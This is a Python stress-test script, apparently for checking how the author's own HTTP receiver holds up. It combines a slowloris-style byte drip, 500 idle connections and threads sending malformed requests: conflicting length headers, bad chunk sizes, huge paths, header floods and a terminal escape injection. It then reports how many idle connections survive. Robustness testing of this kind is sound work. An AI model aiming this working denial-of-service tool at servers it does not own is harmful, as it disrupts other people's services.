#!/usr/bin/env python3
"""Attacks a receiver while somebody works with it: attack.py URL SECONDS [PATH]

500 connections that say nothing, bodies that come byte by byte, headers and bodies without end, what is no HTTP, and pushes
of megabytes, all to PATH (default: one that nobody waits at). Prints how many requests were begun.
"""
import random
import select
import socket
import sys
import threading
import time
import urllib.parse

IDLE = 500


def main() -> int:
    url, seconds = urllib.parse.urlsplit(sys.argv[1]), float(sys.argv[2])
    path = sys.argv[3] if len(sys.argv) > 3 else "/nobody-waits-here"
    where = (url.hostname, url.port)
    end = time.monotonic() + seconds
    begun = [0]
    dice = random.Random(7)

    def head(length: str) -> bytes:
        return (f"POST {path} HTTP/1.1\r\nHost: {url.netloc}\r\nContent-Type: application/json\r\n{length}\r\n\r\n").encode()

    hostile = [
        head("Content-Length: 2000000") + b'{"messageId": "' + b"a" * 1999983 + b'"}',  # large, and well formed
        head("Content-Length: 99999999999") + b"x" * 65536,
        head("Content-Length: -1"),
        head("Content-Length: 5\r\nContent-Length: 6") + b"hello!",
        head("Transfer-Encoding: chunked") + b"zz\r\n",
        head("Transfer-Encoding: chunked") + b"fffffffffffffffff\r\n",
        head("Content-Length: 9\r\nTransfer-Encoding: chunked") + b"0\r\n\r\n",
        head("Content-Length: 4") + b"\xff\xfe\x00{",
        head("Content-Length: 20000") + b"[" * 20000,
        head("Content-Length: 26") + b'{"messageId":"\x1b]0;owned\x07"}',
        b"POST " + b"/" * 100000 + b" HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 30000,
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        bytes(dice.randrange(256) for _ in range(4096)),
        b"POST / HTTP/1.1",
        b"",
    ]

    def storm(seed: int) -> None:
        dice = random.Random(seed)
        while time.monotonic() < end:
            try:
                with socket.create_connection(where, 2) as one:
                    begun[0] += 1
                    one.settimeout(2)
                    one.sendall(dice.choice(hostile))
                    if dice.random() < 0.5:
                        one.shutdown(socket.SHUT_WR)
                        select.select([one], [], [], 0.2)
            except OSError:
                pass
            time.sleep(0.002)

    def drip() -> None:
        """A header, then a body, a byte at a time."""
        text = head("Content-Length: 100000") + b"{" * 100000
        slow = [socket.create_connection(where, 2) for _ in range(20)]
        at = 0
        while time.monotonic() < end:
            for one in slow:
                try:
                    one.send(text[at:at + 1])
                except OSError:
                    pass
            at += 1
            time.sleep(0.01)

    idle = [socket.create_connection(where, 2) for _ in range(IDLE)]
    work = [threading.Thread(target=storm, args=(n,)) for n in range(4)] + [threading.Thread(target=drip)]
    for one in work:
        one.start()
    print("attacking", flush=True)
    for one in work:
        one.join()
    alive = 0
    for one in idle:
        try:
            one.sendall(b"GET /nothing HTTP/1.1\r\nHost: x\r\n\r\n")
            one.settimeout(2)
            alive += one.recv(12).startswith(b"HTTP/1.1 ")
        except OSError:
            pass
    print(f"{begun[0]} hostile connections, {alive} of {IDLE} idle ones still served", flush=True)
    return 0


sys.exit(main())
